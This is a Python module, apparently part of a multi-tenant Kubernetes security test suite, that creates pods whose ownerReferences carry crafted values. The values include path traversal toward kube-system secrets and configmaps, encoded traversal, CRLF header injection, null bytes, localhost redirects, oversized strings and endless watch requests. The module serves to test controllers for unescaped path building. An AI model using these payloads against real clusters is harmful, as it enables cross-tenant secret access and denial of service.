"""Owners whose kind, API version or name would redirect a request if it were put into a path unescaped."""

from itertools import count

from labs.hostile.tenant import Tenant, owned, owner
from tests.cluster.manifests import Json

NAME = "owner paths"
ALL_PODS, ENDLESS = "../../pods#", "../../pods?watch=true#"
"""A list of all pods, and a response that never ends."""
TIMES = 8
"""The number of concurrent requests."""
KINDS = (
    "?watch=true#",
    "../../../../api/v1/pods?watch=true&x=",
    "../../kube-system/configmaps/extension-apiserver-authentication#",
    "../../kube-system/secrets#",
    "..%2f..%2fpods%23",
    "%2e%2e/%2e%2e/pods%3fwatch=true",
    "..\\..\\pods#",
    "//127.0.0.1:1/pods#",
    "@127.0.0.1:1/",
    "pods\r\nX-Injected: true\r\n\r\n",
    "Pod\x00Kind",
    "\uff30\uff4f\uff44",
    "\u202ekind",
    "\U0001f47e",
    "K" * 60_000,
    "Pod",
    "Node",
    "Namespace",
    "Secret",
    "ConfigMap",
    "Event",
    "PodList",
    "TokenReview",
    "SelfSubjectAccessReview",
    "ServiceAccount",
    "ReplicaSet",
)
API_VERSIONS = (
    "v1/namespaces/kube-system",
    "../api/v1",
    "apps/v1/../../../api/v1",
    "apps/v1?watch=true#",
    "v1#",
    "v1?limit=1",
    "/",
    "//",
    ".",
    "..",
    "a" * 60_000,
    "apps/v1/namespaces/x/replicasets",
    "hostile.example/v1",
    "\uff561",
)
NAMES = (
    "../../../../api/v1/pods",
    "../../../pods?watch=true#",
    "x?watch=true",
    "x#",
    "?watch=true#",
    "../../kube-system/configmaps/kube-root-ca.crt",
    ".",
    "..",
    "/",
    "x/status",
    "x/../../../../../api/v1/secrets",
    "x%2f..%2f..",
    "x\r\nX-Injected: true",
    "n" * 60_000,
    "\u0000",
    "名前",
)
UIDS = ("../../pods#", "?watch=true#", "u" * 60_000, "\u0000", "\uff55\uff49\uff44")


async def attack(tenant: Tenant) -> None:
    """Create one pod per reference; the pods are not deleted."""
    numbers = count()
    for reference in references(tenant):
        uid = reference["uid"] or f"crafted-{next(numbers)}"
        await tenant.create(NAME, owned(tenant.pod("crafted"), reference | {"uid": uid}))


def references(tenant: Tenant) -> list[Json]:
    """References with one crafted field each; crafted names also with kinds for which lookups are permitted."""
    foreign = f"../../../namespaces/{tenant.target.foreign_namespace}/deployments/pipeline"
    return [
        *(owner(kind, "x", "") for kind in (ALL_PODS, ENDLESS) * TIMES),
        *(owner(kind, "x", "") for kind in KINDS),
        *(owner(kind, "x", "", api_version="apps/v1") for kind in KINDS),
        *(owner("ReplicaSet", "x", "", api_version=version) for version in API_VERSIONS),
        *(owner("ReplicaSet", name, "", api_version="apps/v1") for name in (*NAMES, foreign)),
        *(owner("ConfigMap", name, "") for name in NAMES),
        *(owner("ReplicaSet", "x", uid, api_version="apps/v1") for uid in UIDS),
    ]
